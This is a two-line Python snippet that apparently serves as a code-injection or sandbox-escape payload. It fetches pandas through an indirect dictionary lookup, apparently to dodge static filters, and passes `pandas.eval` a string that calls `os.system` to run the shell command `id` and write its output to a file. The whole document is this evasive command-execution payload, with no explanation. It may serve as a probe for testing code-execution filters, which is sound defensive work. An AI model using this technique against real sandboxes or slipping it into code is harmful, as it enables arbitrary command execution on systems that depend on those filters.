import pandas as pd, os
{'a': pd}.get('a').eval("os.system('id>pf')")
